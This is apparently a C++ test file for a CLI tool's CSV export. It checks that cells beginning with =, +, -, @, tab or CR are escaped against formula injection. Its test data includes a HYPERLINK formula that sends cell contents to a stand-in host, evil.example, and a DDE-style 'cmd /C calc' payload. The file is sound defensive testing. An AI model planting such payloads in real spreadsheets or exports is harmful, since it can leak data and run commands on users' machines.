// keel export --format csv and CSV injection: a spreadsheet runs a cell that
// starts with =, +, -, @, tab or CR as a formula. OWASP's advice, which the
// export follows: such a cell starts with a single quote (the spreadsheet
// then shows it as text) and is quoted, its own quotes doubled.
#include "tests/cli/cli_fixture.h"

namespace keel::testing {
namespace {

using nlohmann::json;

// A task.created whose actor and source (free strings of the envelope) and
// id are as given.
std::string EventWith(const std::string& id, const std::string& actor, const std::string& source) {
  json event = {{"specversion", "1.0"}, {"id", id}, {"source", source}, {"type", "task.created"},
                {"time", "2026-03-02T09:00:00Z"}, {"subject", "task/T-" + id}, {"workspace", "acme"},
                {"actor", actor}, {"data", {{"title", "=1+2"}}}};
  return event.dump();
}

class ExportCsvInjectionTest : public KeelCliTest {
 protected:
  // The CSV rows after the header.
  std::vector<std::string> Rows() {
    KeelRun run = RunKeel({"export", "--db", db(), "--format", "csv"});
    EXPECT_EQ(run.exit_code, 0) << run.Describe();
    std::vector<std::string> rows;
    size_t start = run.out.find("\r\n");
    while (start != std::string::npos && start + 2 < run.out.size()) {
      size_t end = run.out.find("\r\n", start + 2);
      rows.push_back(run.out.substr(start + 2, end - start - 2));
      start = end;
    }
    return rows;
  }
};

TEST_F(ExportCsvInjectionTest, CellsThatStartLikeAFormulaGetAQuoteAndAreQuoted) {
  IngestValid({EventWith("1", R"csv(=HYPERLINK("http://evil.example/?"&A1,"open"))csv", "+cmd|' /C calc'!A0"),
               EventWith("2", "-2+3", "@SUM(A1:A9)"), EventWith("3", "\tuser", "\rsource")});
  std::vector<std::string> rows = Rows();
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_NE(rows[0].find(R"csv(,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",)csv"), std::string::npos)
      << rows[0];
  EXPECT_NE(rows[0].find(R"csv(,"'+cmd|' /C calc'!A0",)csv"), std::string::npos) << rows[0];
  EXPECT_NE(rows[1].find(R"csv(,"'-2+3",)csv"), std::string::npos) << rows[1];
  EXPECT_NE(rows[1].find(R"csv(,"'@SUM(A1:A9)",)csv"), std::string::npos) << rows[1];
  EXPECT_NE(rows[2].find(",\"'\tuser\","), std::string::npos) << rows[2];
  EXPECT_NE(rows[2].find(",\"'\rsource\","), std::string::npos) << rows[2];
}

TEST_F(ExportCsvInjectionTest, OtherCellsAreWrittenAsBefore) {
  IngestValid({EventWith("7", "user:alice", "jira/acme")});
  std::vector<std::string> rows = Rows();
  ASSERT_EQ(rows.size(), 1u);
  // The data column is JSON (it starts with a brace); a formula inside it is no cell of its own.
  EXPECT_NE(rows[0].find(",task.created,task/T-7,acme,user:alice,jira/acme,"), std::string::npos) << rows[0];
  EXPECT_NE(rows[0].find(R"csv(,"{""title"":""=1+2""}")csv"), std::string::npos) << rows[0];
}

}  // namespace
}  // namespace keel::testing
